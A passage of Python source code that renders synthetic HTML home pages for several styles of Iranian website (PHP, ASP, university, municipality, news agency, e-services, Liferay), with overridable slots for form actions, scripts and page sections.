                <form method="POST" action="{m.get("form_action", "https://" + site.host + "/contact")}">
                    <input type="hidden" name="_token" value="{o.laravel_token}" autocomplete="off">
                    <div class="mb-3"><label for="name" class="form-label">{t("name")}</label><input id="name" type="text" class="form-control" name="name" required></div>
                    <div class="mb-3"><label for="email" class="form-label">{t("email")}</label><input id="email" type="email" class="form-control" name="email" required></div>
                    <div class="mb-3"><label for="body" class="form-label">{t("message")}</label><textarea id="body" class="form-control" name="body" rows="4"></textarea></div>
                    {m.get("form_extra", "")}<button type="submit" class="btn btn-primary">{L['en' if site.lang == 'en' else 'fa']['send']}</button>
                </form></div></div>
            </div><div class="col-lg-6">
                <div class="card"><div class="card-header">{t("ann")}</div><ul class="list-group list-group-flush">{"".join(f'<li class="list-group-item">{a}</li>' for a in site.ann)}</ul></div>
            </div></div>
{m.get("main", "")}
        </div>
    </main>
</div>
<footer class="bg-dark text-white-50 py-4 mt-auto">
    <div class="container d-flex justify-content-between flex-wrap">
        <div>&copy; 2026 {site.name()} &middot; {t("rights")}</div>
        <div>{t("visits")}: {site.num(o.visits)} &middot; {t("today")}: {site.date(o.day)}</div>
    </div>
</footer>
<script src="/js/manifest.js?id=1f2e3d4c5b6a79880706"></script>
<script src="/js/vendor.js?id={mix['vendor.js']}"></script>
<script src="/js/app.js?id={mix['app.js']}"></script>
{m.get("end", "")}</body>
</html>
'''


def php(site, o, m):
    t = site.t
    s = f"PHPSESSID={o.sess}"
    cdn = "\n".join(f'<script type="text/javascript" src="{u}"></script>' for u in m.get("cdn", site.cdn))
    items = "\n".join(f'''    <div class="news-box">
      <a href="news.php?id={760 + i + o.news_off}&amp;{s}" class="news-title">{h}</a>
      <div class="news-date">{site.date(o.day)}</div>
      <div class="news-lead">{x}</div>
    </div>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html>
<html dir="{site.dir}" lang="{site.html_lang}">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>{m.get("title", site.name())}</title>
<meta name="keywords" content="{site.org_en}, {site.org_fa}">
<link href="css/style.css?v=12" rel="stylesheet" type="text/css">
<script type="text/javascript" src="js/jquery.min.js"></script>
<script type="text/javascript" src="js/jquery.cycle.all.js"></script>
<script type="text/javascript" src="js/menu.js"></script>
{cdn}
{m.get("head", "")}</head>
<body>
{m.get("top", "")}<div id="container">
  <div id="header">
    <a href="index.php?{s}"><img src="images/header.jpg" width="980" height="140" border="0" alt="{site.org_en}"></a>
  </div>
  <div id="menu">
    <a href="index.php?{s}">{t("home")}</a> |
    <a href="page.php?id=1&amp;{s}">{t("about")}</a> |
    <a href="news.php?{s}">{t("news")}</a> |
    <a href="page.php?id=4&amp;{s}">{t("laws")}</a> |
    <a href="gallery.php?{s}">{t("gallery")}</a> |
    <a href="contact.php?{s}">{t("contact")}</a>
    <span class="date">{site.date(o.day, long=True)}</span>
  </div>
  <div id="main">
    <div id="side">
      <div class="side-box">
        <div class="side-title">{t("staff")}</div>
        <form name="login" method="post" action="{m.get("form_action", "login.php?" + s)}">
          {t("user")}: <input type="text" name="uname" size="14"><br>
          {t("password")}: <input type="password" name="upass" size="14"><br>
          {m.get("form_extra", "")}<input type="submit" value="{L['en' if site.lang == 'en' else 'fa']['login']}">
        </form>
      </div>
      <div class="side-box">
        <div class="side-title">{t("search")}</div>
        <form method="get" action="search.php"><input type="text" name="q" size="16"><input type="hidden" name="PHPSESSID" value="{o.sess}"><input type="submit" value="{L['en' if site.lang == 'en' else 'fa']['search']}"></form>
      </div>
      <div class="side-box">
        <div class="side-title">{t("stats")}</div>
        {t("visits")}: {site.num(o.visits)}<br>{t("online")}: {site.num(o.online)}<br>
      </div>
    </div>
    <div id="center">
      <div id="slideshow"><div class="slide"><b>{bt}</b><br>{bx}</div></div>
      <h2>{t("latest")}</h2>
{items}
      <a href="news.php?{s}">{t("more")}</a>
      <h2>{t("ann")}</h2>
      <ul>{"".join(f"<li>{a}</li>" for a in site.ann)}</ul>
{m.get("main", "")}
    </div>
  </div>
  <div id="footer">{site.name()} - {t("rights")}<br>{t("address")}: {"Rasht, Shahrdari Square" if site.lang == "en" else "رشت، میدان شهرداری"}</div>
</div>
<script type="text/javascript">$('#slideshow').cycle({{fx: 'fade', timeout: 5000}});</script>
{m.get("end", "")}</body>
</html>
'''


def legacy(site, o, m):
    t = site.t
    charset = site.charset
    items = "\n".join(f'''<tr><td class="news" valign="top"><img src="images/bullet.gif" width="9" height="9"> <a href="ShowNews.asp?NewsID={1300 + i + o.news_off}"><font color="#003366"><b>{h}</b></font></a><br>
<font size="1" color="#808080">{site.date(o.day)}</font><br><font size="2">{x}</font></td></tr>''' for i, (h, x) in enumerate(news_items(site, o, n=5, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<html dir="{site.dir}">
<head>
<meta http-equiv="Content-Type" content="text/html; charset={charset}">
<meta http-equiv="Content-Language" content="fa">
<title>{m.get("title", site.name())}</title>
<link rel="stylesheet" type="text/css" href="style.css">
<script language="JavaScript" src="scripts/menu.js"></script>
<script language="JavaScript">
<!--
function MM_swapImgRestore() {{ var i,x,a=document.MM_sr; for(i=0;a&&i<a.length&&(x=a[i])&&x.oSrc;i++) x.src=x.oSrc; }}
function MM_preloadImages() {{ var d=document; if(d.images){{ if(!d.MM_p) d.MM_p=new Array(); }} }}
//-->
</script>
{m.get("head", "")}</head>
<body bgcolor="#E8EEF4" topmargin="0" leftmargin="0" rightmargin="0" onLoad="MM_preloadImages('images/menu_on.gif')">
{m.get("top", "")}<table width="960" border="0" cellspacing="0" cellpadding="0" align="center" bgcolor="#FFFFFF">
  <tr><td colspan="3"><img src="images/top.jpg" width="960" height="150" alt="{site.org_en}"></td></tr>
  <tr bgcolor="#003366"><td colspan="3" height="26"><font face="Tahoma" size="2" color="#FFFFFF">
    &nbsp;<a href="default.asp"><font color="#FFFFFF">{t("home")}</font></a> |
    <a href="page.asp?id=1"><font color="#FFFFFF">{t("about")}</font></a> |
    <a href="NewsList.asp"><font color="#FFFFFF">{t("news")}</font></a> |
    <a href="page.asp?id=7"><font color="#FFFFFF">{t("laws")}</font></a> |
    <a href="contact.asp"><font color="#FFFFFF">{t("contact")}</font></a>
    &nbsp;&nbsp;&nbsp;{t("today")}: {site.date(o.day, long=True)}</font></td></tr>
  <tr>
    <td width="200" valign="top" bgcolor="#F2F5F8">
      <table width="100%" border="0" cellpadding="4">
        <tr><td bgcolor="#336699"><font color="#FFFFFF" face="Tahoma" size="2"><b>{t("staff")}</b></font></td></tr>
        <tr><td><form method="post" action="{m.get("form_action", "login.asp")}"><font face="Tahoma" size="1">{t("user")}</font><br><input type="text" name="user" size="15"><br>
        <font face="Tahoma" size="1">{t("password")}</font><br><input type="password" name="pass" size="15"><br>{m.get("form_extra", "")}<input type="submit" value="{L['fa']['login']}"></form></td></tr>
        <tr><td bgcolor="#336699"><font color="#FFFFFF" face="Tahoma" size="2"><b>{t("links")}</b></font></td></tr>
        <tr><td><font face="Tahoma" size="2"><a href="{'http://www.medu.ir/' if site.id == 'legacy_fa' else 'http://www.eadl.ir/'}">{'وزارت آموزش و پرورش' if site.id == 'legacy_fa' else 'قوه قضاییه'}</a><br><a href="http://www.president.ir/">{'پایگاه ریاست جمهوری'}</a></font></td></tr>
      </table>
    </td>
    <td width="560" valign="top">
      <table width="100%" border="0" cellpadding="6">
        <tr><td bgcolor="#FFF8DC"><marquee direction="right" scrollamount="3" onmouseover="this.stop()" onmouseout="this.start()"><font face="Tahoma" size="2" color="#990000">{bt}: {bx}</font></marquee></td></tr>
        <tr><td><font face="Tahoma" size="3" color="#003366"><b>{t("latest")}</b></font></td></tr>
{items}
        <tr><td><a href="NewsList.asp"><font size="2">{t("more")}</font></a></td></tr>
      </table>
{m.get("main", "")}
    </td>
    <td width="200" valign="top" bgcolor="#F2F5F8">
      <table width="100%" border="0" cellpadding="4">
        <tr><td bgcolor="#336699"><font color="#FFFFFF" face="Tahoma" size="2"><b>{t("ann")}</b></font></td></tr>
        {"".join(f'<tr><td><font face="Tahoma" size="2">{a}</font></td></tr>' for a in site.ann)}
        <tr><td><font face="Tahoma" size="1">{prayer_times(site, o)}</font></td></tr>
        <tr><td bgcolor="#336699"><font color="#FFFFFF" face="Tahoma" size="2"><b>{t("stats")}</b></font></td></tr>
        <tr><td><font face="Tahoma" size="2">{t("visits")}: {site.num(o.visits)}<br>{t("online")}: {site.num(o.online)}</font></td></tr>
      </table>
    </td>
  </tr>
  <tr bgcolor="#003366"><td colspan="3" align="center" height="30"><font face="Tahoma" size="1" color="#FFFFFF">{site.name()} - {t("rights")}</font></td></tr>
</table>
{m.get("end", "")}</body>
</html>
'''


def spa(site, o, m):
    h = m.get("bundle", {"main": "4f3a9c1e", "vendors": "8d21b7aa", "runtime": "c02e51f9", "css": "77a1e0b3"})
    n = nonce_attr(site, o)
    noscript = ("لطفاً برای استفاده از این سامانه جاوااسکریپت را فعال کنید." if site.lang == "fa"
                else "You need to enable JavaScript to run this app.")
    return f'''<!doctype html>
<html lang="{site.html_lang}" dir="{site.dir}">
<head>
<meta charset="utf-8"/>
<link rel="icon" href="/favicon.ico"/>
<meta name="viewport" content="width=device-width,initial-scale=1"/>
<meta name="theme-color" content="#1565c0"/>
<meta name="description" content="{site.org_en}"/>
<link rel="apple-touch-icon" href="/logo192.png"/>
<link rel="manifest" href="/manifest.json"/>
<title>{m.get("title", site.name())}</title>
<script defer="defer" src="/static/js/runtime.{h['runtime']}.js"></script>
<script defer="defer" src="/static/js/vendors.{h['vendors']}.chunk.js"></script>
<script defer="defer" src="/static/js/main.{h['main']}.js"></script>
<link href="/static/css/main.{h['css']}.css" rel="stylesheet">
<script{n}>window.__ENV__={{"API_BASE":"https://api.{reg(site.host)}/v2","BUILD":"{h['main']}","SESSION_HINT":"{o.sess[:12]}"}};</script>
{m.get("head", "")}</head>
<body>
{m.get("top", "")}<noscript>{noscript}</noscript>
<div id="app"></div>
{m.get("main", "")}{m.get("end", "")}</body>
</html>
'''


def university(site, o, m):
    t = site.t
    n = nonce_attr(site, o)
    cdn = "\n".join(f'<link rel="stylesheet" href="{u}">' if "css" in u else f'<script src="{u}"></script>' for u in m.get("cdn", site.cdn))
    news = news_items(site, o, override=m.get("news"))
    feat = "\n".join(f'''<div class="swiper-slide"><a href="/{site.html_lang}/news/{8800 + i + o.news_off}"><img src="/uploads/news/{8800 + i + o.news_off}.jpg" alt=""><div class="caption"><h3>{h}</h3></div></a></div>''' for i, (h, _x) in enumerate(news[:3]))
    lst = "\n".join(f'''<li><span class="d">{site.date(o.day)}</span><a href="/{site.html_lang}/news/{8803 + i + o.news_off}">{h}</a><p>{x}</p></li>''' for i, (h, x) in enumerate(news[3:]))
    ev = [("جلسه دفاع از رساله دکتری", "Doctoral thesis defence"), ("کارگاه نگارش مقاله علمی", "Scientific writing workshop"), ("سخنرانی علمی دانشکده فنی", "Engineering faculty lecture")]
    evs = "\n".join(f'<li><b>{site.num(o.day + 3 + i)}</b> {a if site.lang != "en" else b}{" / " + b if site.lang == "bi" else ""}</li>' for i, (a, b) in enumerate(ev))
    return f'''<!DOCTYPE html>
<html lang="{site.html_lang}" dir="{site.dir}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{m.get("title", site.name())}</title>
<link rel="stylesheet" href="/assets/vendor/swiper/swiper-bundle.min.css">
<link rel="stylesheet" href="/assets/css/portal.css?v=5.12">
{cdn}
<script src="/assets/vendor/jquery/jquery-3.6.0.min.js"></script>
<script src="/assets/vendor/swiper/swiper-bundle.min.js"></script>
<script{n}>var portalCfg = {{ lang: "{site.html_lang}", sid: "{o.sess}", xsrf: "{o.token32}" }};</script>
{m.get("head", "")}</head>
<body class="portal home">
{m.get("top", "")}<div class="topbar"><div class="container">
  <a href="https://mail.{site.domain if not site.host.startswith('en.') else site.host[3:]}/">{'Webmail' if site.lang == 'en' else 'پست الکترونیک'}</a>
  <a href="https://lms.{site.domain if not site.host.startswith('en.') else site.host[3:]}/">{'LMS' if site.lang == 'en' else 'سامانه آموزش مجازی'}</a>
  <a href="https://golestan.{site.domain if not site.host.startswith('en.') else site.host[3:]}/">{'Student system' if site.lang == 'en' else 'سامانه گلستان'}</a>
  <a href="https://library.{site.domain if not site.host.startswith('en.') else site.host[3:]}/">{'Library' if site.lang == 'en' else 'کتابخانه مرکزی'}</a>
  <span class="today">{site.date(o.day, long=True)}</span>
</div></div>
<header class="uni-header"><div class="container">
  <a class="logo" href="/"><img src="/assets/img/logo.png" alt="{site.org_en}"><span>{site.name()}</span></a>
  <nav class="mainnav"><ul>
    <li><a href="/{site.html_lang}/about">{t("about")}</a></li>
    <li><a href="/{site.html_lang}/faculties">{'Faculties' if site.lang == 'en' else 'دانشکده‌ها' + (' <span lang="en">Faculties</span>' if site.lang == 'bi' else '')}</a></li>
    <li><a href="/{site.html_lang}/research">{'Research' if site.lang == 'en' else 'پژوهش' + (' <span lang="en">Research</span>' if site.lang == 'bi' else '')}</a></li>
    <li><a href="/{site.html_lang}/admission">{'Admission' if site.lang == 'en' else 'پذیرش' + (' <span lang="en">Admission</span>' if site.lang == 'bi' else '')}</a></li>
    <li><a href="/{site.html_lang}/news">{t("news")}</a></li>
    <li><a href="/{site.html_lang}/contact">{t("contact")}</a></li>
  </ul></nav>
  <form class="search" action="/{site.html_lang}/search" method="get"><input name="q" placeholder="{L['en' if site.lang == 'en' else 'fa']['search_ph']}"><button>{L['en' if site.lang == 'en' else 'fa']['search']}</button></form>
</div></header>
<main class="container">
  <section class="featured swiper"><div class="swiper-wrapper">
{feat}
  </div><div class="swiper-pagination"></div></section>
  <div class="cols">
    <section class="news-list"><h2>{t("latest")}</h2><ul>
{lst}
    </ul><a class="more" href="/{site.html_lang}/news">{t("more")}</a></section>
    <section class="events"><h2>{t("events")}</h2><ul>{evs}</ul></section>
  </div>
{m.get("main", "")}
  <section class="quick"><h2>{t("services")}</h2>
    <form class="sso" method="post" action="{m.get("form_action", "/" + site.html_lang + "/sso/login")}"><input type="hidden" name="__RequestVerificationToken" value="{o.viewstate[:92]}">
    <input name="username" placeholder="{L['en' if site.lang == 'en' else 'fa']['user']}"><input type="password" name="password" placeholder="{L['en' if site.lang == 'en' else 'fa']['password']}">{m.get("form_extra", "")}<button>{L['en' if site.lang == 'en' else 'fa']['login']}</button></form>
  </section>
</main>
<footer class="uni-footer"><div class="container">
  <p>{site.name()} &copy; 2026</p><p>{t("visits")}: {site.num(o.visits)}</p>
  <p><a href="https://www.msrt.ir/">{'Ministry of Science, Research and Technology' if site.lang == 'en' else 'وزارت علوم، تحقیقات و فناوری'}</a> | <a href="https://www.irandoc.ac.ir/">{'IranDoc' if site.lang == 'en' else 'ایرانداک'}</a></p>
</div></footer>
<script{n}>new Swiper('.featured', {{ loop: true, autoplay: {{ delay: 4000 }}, pagination: {{ el: '.swiper-pagination' }} }});</script>
{m.get("end", "")}</body>
</html>
'''


def municipality(site, o, m):
    t = site.t
    news = news_items(site, o, override=m.get("news"))
    items = "\n".join(f'''<div class="news-card"><a href="/Portal/Home/ShowPage.aspx?Object=News&amp;CategoryID={12 + i % 2}&amp;ID={ 40100 + i + o.news_off}&amp;LayoutID=1"><img src="/Dorsapax/userfiles/Image/news/{40100 + i + o.news_off}.jpg" alt=""><h4>{h}</h4></a><span class="news-date">{site.date(o.day)}</span><p>{x}</p></div>''' for i, (h, x) in enumerate(news))
    srv = [("پرداخت عوارض نوسازی", "Property renewal fees"), ("استعلام پروانه ساختمانی", "Building permit enquiry"), ("سامانه ۱۳۷", "137 citizen hotline"), ("پرداخت قبوض پسماند", "Waste bills"), ("رزرو سالن‌های ورزشی", "Sports hall booking")]
    srvs = "\n".join(f'<li><a href="/Portal/Home/Default.aspx?srv={i}">{a if site.lang != "en" else b}{" / " + b if site.lang == "bi" else ""}</a></li>' for i, (a, b) in enumerate(srv))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html>
<html dir="{site.dir}" lang="{site.html_lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{m.get("title", site.name() + " - " + ("پرتال" if site.lang != "en" else "Portal"))}</title>
<link href="/Dorsapax/Data/Sub_0/Style/Portal.css?v=1403" rel="stylesheet" type="text/css">
<script type="text/javascript" src="/Dorsapax/JavaScript/jquery.min.js"></script>
<script type="text/javascript" src="/Dorsapax/JavaScript/Portal.js?v=1403"></script>
<script type="text/javascript">var PortalSession = "{o.sess}"; var PortalCulture = "{site.html_lang}";</script>
{m.get("head", "")}</head>
<body>
{m.get("top", "")}<div id="PageContainer">
<div id="Header"><div class="logo"><a href="/"><img src="/Dorsapax/Data/Sub_0/logo.png" alt="{site.org_en}"></a></div><div class="title">{site.name()}</div>
<div class="weather">{'هوای امروز' if site.lang != 'en' else 'Weather today'}: {site.num(o.weather)}°</div><div class="owghat">{prayer_times(site, o)}</div><div class="date">{site.date(o.day, long=True)}</div></div>
<div id="TopMenu"><ul>
  <li><a href="/">{t("home")}</a></li><li><a href="/Portal/Home/?page=about">{t("about")}</a></li>
  <li><a href="/Portal/Home/?page=mayor">{'شهردار' if site.lang != 'en' else 'Mayor'}</a></li><li><a href="/Portal/Home/?page=council">{'شورای شهر' if site.lang != 'en' else 'City council'}</a></li>
  <li><a href="/Portal/Home/?page=news">{t("news")}</a></li><li><a href="/Portal/Home/?page=tenders">{t("tenders")}</a></li><li><a href="/Portal/Home/?page=contact">{t("contact")}</a></li>
</ul></div>
<div id="Slider" class="nivoSlider"><div class="slide"><h2>{bt}</h2><p>{bx}</p></div></div>
<div id="Body">
  <div id="Services" class="box"><h3>{'خدمات شهروندی' if site.lang != 'en' else 'Citizen services'}</h3><ul>{srvs}</ul></div>
  <div id="News" class="box"><h3>{t("latest")}</h3>
{items}
  </div>
  <div id="Ann" class="box"><h3>{t("ann")}</h3><ul>{"".join(f"<li>{a}</li>" for a in site.ann)}</ul></div>
{m.get("main", "")}
  <div id="Login" class="box"><h3>{'ورود شهروندان' if site.lang != 'en' else 'Citizen login'}</h3><form method="post" action="{m.get("form_action", "/Portal/Login.aspx")}"><input type="hidden" name="__RequestVerificationToken" value="{o.viewstate[:108]}"><input name="nationalcode" placeholder="{'کد ملی' if site.lang != 'en' else 'National ID'}"><input name="pwd" type="password">{m.get("form_extra", "")}<button>{L['en' if site.lang == 'en' else 'fa']['login']}</button></form></div>
</div>
<div id="Footer"><p>{t("address")}: {'اراک، میدان امام، ساختمان شهرداری مرکزی' if site.id == 'muni_fa' else 'کیش، بلوار ایران - Kish, Iran Boulevard'}</p><p>{t("visits")}: {site.num(o.visits)} | {t("online")}: {site.num(o.online)}</p><p>{t("rights")}</p></div>
</div>
{m.get("end", "")}</body>
</html>
'''


def newsagency(site, o, m):
    t = site.t
    n = nonce_attr(site, o)
    news = news_items(site, o, n=10, override=m.get("news"))
    lead = news[0]
    rest = "\n".join(f'''<li class="news"><figure><a href="/{site.html_lang}/news/{310000 + i + o.news_off}/"><img src="https://img.{site.host.split('.', 1)[1]}/d/2026/11/{24 + (i % 3)}/2/{310000 + i + o.news_off}.jpg" alt="" loading="lazy"></a></figure>
<div class="desc"><h3><a href="/{site.html_lang}/news/{310000 + i + o.news_off}/">{h}</a></h3><p>{x}</p><time datetime="{date_iso(o.day)}">{site.date(o.day)} - {site.num(8 + i)}:{site.num(10 + 3 * i)}</time></div></li>''' for i, (h, x) in enumerate(news[1:]))
    most = "\n".join(f'<li><a href="/{site.html_lang}/news/{309900 + i}/">{h}</a></li>' for i, (h, _x) in enumerate(site.news[12:17]))
    tick = " | ".join(h for h, _x in news[:4])
    return f'''<!DOCTYPE html>
<html lang="{site.html_lang}" dir="{site.dir}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{m.get("title", site.name() + (" - آخرین اخبار" if site.lang != "en" else " - Latest news"))}</title>
<meta property="og:site_name" content="{site.org_en}">
<link rel="stylesheet" href="https://static.{site.host.split('.', 1)[1]}/resources/theme/css/main.css?v=3.81">
<script src="https://static.{site.host.split('.', 1)[1]}/resources/theme/js/jquery.min.js"></script>
<script src="https://static.{site.host.split('.', 1)[1]}/resources/theme/js/main.js?v=3.81"></script>
<script{n}>var NEWS_CFG = {{ edition: "{site.html_lang}", ts: {1795000000 + o.day * 86400 + o.online} }};</script>
{m.get("head", "")}</head>
<body class="home">
{m.get("top", "")}<header id="header">
  <div class="container"><div class="date">{site.date(o.day, long=True)}</div>
  <a href="/" class="logo"><img src="https://static.{site.host.split('.', 1)[1]}/resources/theme/img/logo.svg" alt="{site.org_en}"></a>
  <nav><ul class="menu">
    <li><a href="/{site.html_lang}/service/politics">{'سیاسی' if site.lang != 'en' else 'Politics'}</a></li>
    <li><a href="/{site.html_lang}/service/economy">{'اقتصادی' if site.lang != 'en' else 'Economy'}</a></li>
    <li><a href="/{site.html_lang}/service/society">{'اجتماعی' if site.lang != 'en' else 'Society'}</a></li>
    <li><a href="/{site.html_lang}/service/provinces">{'استان‌ها' if site.lang != 'en' else 'Provinces'}</a></li>
    <li><a href="/{site.html_lang}/service/sport">{'ورزشی' if site.lang != 'en' else 'Sport'}</a></li>
    <li><a href="/{site.html_lang}/photo">{'عکس' if site.lang != 'en' else 'Photo'}</a></li>
    <li><a href="https://{'en' if site.lang != 'en' else 'www'}.{site.host.split('.', 1)[1]}/">{L[site.lang if site.lang != 'bi' else 'fa']['lang']}</a></li>
  </ul></nav></div>
  <div class="ticker"><span>{'خبر فوری' if site.lang != 'en' else 'Breaking'}:</span> {tick}</div>
</header>
<main class="container">
  <section class="lead"><h1><a href="/{site.html_lang}/news/{309999 + o.news_off}/">{lead[0]}</a></h1><p>{lead[1]}</p></section>
  <section class="latest"><h2>{t("latest")}</h2><ul>
{rest}
  </ul></section>
  <aside><h2>{'پربازدیدترین' if site.lang != 'en' else 'Most viewed'}</h2><ol>{most}</ol>
  <div class="ads"><a href="https://{site.host}/ads/{o.banner}"><img src="https://static.{site.host.split('.', 1)[1]}/ads/banner-{o.banner}.gif" width="300" height="250" alt=""></a></div></aside>
{m.get("main", "")}
</main>
<footer><p>{site.name()} &copy; 2026 | {t("contact")}: news@{site.host.split('.', 1)[1]}</p>
<form class="newsletter" method="post" action="{m.get("form_action", "/" + site.html_lang + "/newsletter")}"><input type="hidden" name="csrfmiddlewaretoken" value="{o.laravel_token}{o.token[:24]}"><input name="email" placeholder="{L['en' if site.lang == 'en' else 'fa']['email']}">{m.get("form_extra", "")}<button>{L['en' if site.lang == 'en' else 'fa']['subscribe']}</button></form></footer>
{m.get("end", "")}</body>
</html>
'''


def eservices(site, o, m):
    t = site.t
    n = nonce_attr(site, o)
    svc = [("ثبت‌نام و پیش‌ثبت‌نام", "Registration"), ("پیگیری پرونده", "Track a case"), ("دریافت گواهی", "Certificates"),
           ("پرداخت الکترونیک", "Online payment"), ("پرسش‌های متداول", "FAQ"), ("راهنمای سامانه", "User guide")]
    svcs = "\n".join(f'<div class="tile"><a href="/Services/{i + 1}"><i class="ico-{i}"></i><span>{a if site.lang != "en" else b}</span></a></div>' for i, (a, b) in enumerate(svc))
    news = news_items(site, o, n=4, override=m.get("news"))
    ann = "\n".join(f'<li><time>{site.date(o.day)}</time> <a href="/Announcements/{700 + i + o.news_off}">{h}</a></li>' for i, (h, _x) in enumerate(news))
    return f'''<!DOCTYPE html>
<html lang="{site.html_lang}" dir="{site.dir}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="__RequestVerificationToken" content="{o.evval}">
<title>{m.get("title", (("سامانه خدمات الکترونیک - " + site.org_fa) if site.lang != "en" else ("e-Services - " + site.org_en)))}</title>
<link rel="stylesheet" href="/lib/bootstrap/dist/css/bootstrap{'.rtl' if site.dir == 'rtl' else ''}.min.css">
<link rel="stylesheet" href="/css/site.css?v={m.get('assetv', 'Kx8dQ3Zf1pN0')}">
<script src="/lib/jquery/dist/jquery.min.js"></script>
<script{n}>window.appSettings = {{ sessionTimeout: 900, antiforgery: "{o.evval[:40]}" }};</script>
{m.get("head", "")}</head>
<body class="login-page">
{m.get("top", "")}<header class="navbar navbar-light bg-white border-bottom">
  <div class="container"><a class="navbar-brand" href="/"><img src="/images/logo.png" height="48" alt=""> {site.name()}</a>
  <span class="small text-muted">{t("today")}: {site.date(o.day)}</span></div>
</header>
<main class="container my-4">
  <div class="row">
    <div class="col-lg-5">
      <div class="card login-card"><div class="card-body">
        <h1 class="h5">{'ورود به سامانه' if site.lang != 'en' else 'Sign in'}</h1>
        <form method="post" action="{m.get("form_action", "/Account/Login?ReturnUrl=%2FDashboard")}" id="loginForm" autocomplete="off">
          <div class="mb-3"><label for="UserName">{'کد ملی / نام کاربری' if site.lang != 'en' else 'National ID / username'}</label><input class="form-control" id="UserName" name="UserName" type="text" required></div>
          <div class="mb-3"><label for="Password">{t("password")}</label><input class="form-control" id="Password" name="Password" type="password" required></div>
          <div class="mb-3"><label for="Captcha">{'کد امنیتی' if site.lang != 'en' else 'Security code'}</label><input class="form-control" id="Captcha" name="CaptchaCode"><img src="/Captcha/Image?t={o.captcha}" alt=""></div>
          {m.get("form_extra", "")}<input name="__RequestVerificationToken" type="hidden" value="{o.evval}">
          <button class="btn btn-primary w-100" type="submit">{L['en' if site.lang == 'en' else 'fa']['login']}</button>
          <div class="d-flex justify-content-between mt-2"><a href="/Account/ForgotPassword">{t("forgot")}</a><a href="/Account/Register">{t("register")}</a></div>
        </form>
      </div></div>
    </div>
    <div class="col-lg-7">
      <div class="tiles">
{svcs}
      </div>
      <div class="card mt-3"><div class="card-header">{t("ann")}</div><ul class="list-unstyled p-3">
{ann}
      </ul></div>
{m.get("main", "")}
    </div>
  </div>
</main>
<footer class="border-top py-3 small text-center text-muted">{site.name()} &middot; {'پشتیبانی' if site.lang != 'en' else 'Support'}: 021-{site.num(6120)} &middot; {t("online")}: {site.num(o.online)}</footer>
<script src="/lib/bootstrap/dist/js/bootstrap.bundle.min.js"></script>
<script src="/js/site.js?v={m.get('assetv', 'Kx8dQ3Zf1pN0')}"></script>
{m.get("end", "")}</body>
</html>
'''


def liferay(site, o, m):
    """A Liferay portal (Java): p_auth and authToken change per session,
    jsessionid in links, the combo servlet's versioned URLs."""
    t = site.t
    n = nonce_attr(site, o)
    js = m.get("lrver", "1712000000000")
    jsid = o.sess.upper()[:32].ljust(32, "A")
    items = "\n".join(f'''<div class="asset-abstract"><h3 class="asset-title"><a href="/web/guest/news/-/asset_publisher/Xq3bPz0a/content/{'news' if site.lang == 'en' else 'khabar'}-{7700 + i + o.news_off};jsessionid={jsid}?inheritRedirect=false">{h}</a></h3>
<div class="asset-metadata"><span class="metadata-entry metadata-publish-date">{site.date(o.day)}</span></div>
<div class="asset-summary">{x}</div></div>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html>
<html class="ltr" dir="{site.dir}" lang="{site.html_lang}-{'US' if site.lang == 'en' else 'IR'}">
<head>
<title>{m.get("title", site.name() + " - " + ("Home" if site.lang == "en" else "صفحه اصلی"))}</title>
<meta content="initial-scale=1.0, width=device-width" name="viewport" />
<meta content="text/html; charset=UTF-8" http-equiv="content-type" />
<link href="/o/portal-theme/images/favicon.ico" rel="icon" />
<link class="lfr-css-file" data-senna-track="temporary" href="/o/portal-theme/css/main.css?browserId=other&amp;themeId=portaltheme_WAR_portaltheme&amp;minifierType=css&amp;languageId={site.html_lang}_{'US' if site.lang == 'en' else 'IR'}&amp;b=7402&amp;t={js}" id="liferayThemeCSS" rel="stylesheet" type="text/css" />
<script data-senna-track="temporary"{n}>var Liferay = Liferay || {{}};
Liferay.authToken = '{o.token[:8]}';
Liferay.currentURL = '\x2fweb\x2fguest\x2fhome';
Liferay.ThemeDisplay = {{ getCDNHost: function() {{ return ""; }}, getLanguageId: function() {{ return "{site.html_lang}_{'US' if site.lang == 'en' else 'IR'}"; }}, getSessionId: function() {{ return "{jsid}"; }}, isSignedIn: function() {{ return false; }} }};
</script>
<script data-senna-track="permanent" src="/combo?browserId=other&amp;minifierType=js&amp;languageId={site.html_lang}_{'US' if site.lang == 'en' else 'IR'}&amp;b=7402&amp;t={js}&amp;/o/frontend-js-aui-web/aui/aui/aui.js&amp;/o/frontend-js-web/liferay/global.bundle.js" type="text/javascript"></script>
<script data-senna-track="permanent" src="/o/js_loader_config?t={js}" type="text/javascript"></script>
{m.get("head", "")}</head>
<body class="controls-visible guest-site signed-out public-page site">
{m.get("top", "")}<div class="d-flex flex-column min-vh-100">
<div class="pt-0" id="wrapper">
<header id="banner" role="banner">
  <div id="heading"><div aria-level="1" class="site-title" role="heading"><a class="logo custom-logo" href="/web/guest/home;jsessionid={jsid}" title="{site.org_en}"><img alt="" height="70" src="/image/layout_set_logo?img_id=35201&amp;t={js}" width="240" /></a><span class="site-name">{site.name()}</span></div></div>
  <nav class="sort-pages modify-pages" id="navigation" role="navigation"><ul aria-label="Site Pages" role="menubar">
    <li class="selected" role="presentation"><a href="/web/guest/home;jsessionid={jsid}" role="menuitem"><span>{t("home")}</span></a></li>
    <li role="presentation"><a href="/web/guest/about;jsessionid={jsid}" role="menuitem"><span>{t("about")}</span></a></li>
    <li role="presentation"><a href="/web/guest/news;jsessionid={jsid}" role="menuitem"><span>{t("news")}</span></a></li>
    <li role="presentation"><a href="/web/guest/services;jsessionid={jsid}" role="menuitem"><span>{t("services")}</span></a></li>
    <li role="presentation"><a href="/web/guest/laws;jsessionid={jsid}" role="menuitem"><span>{t("laws")}</span></a></li>
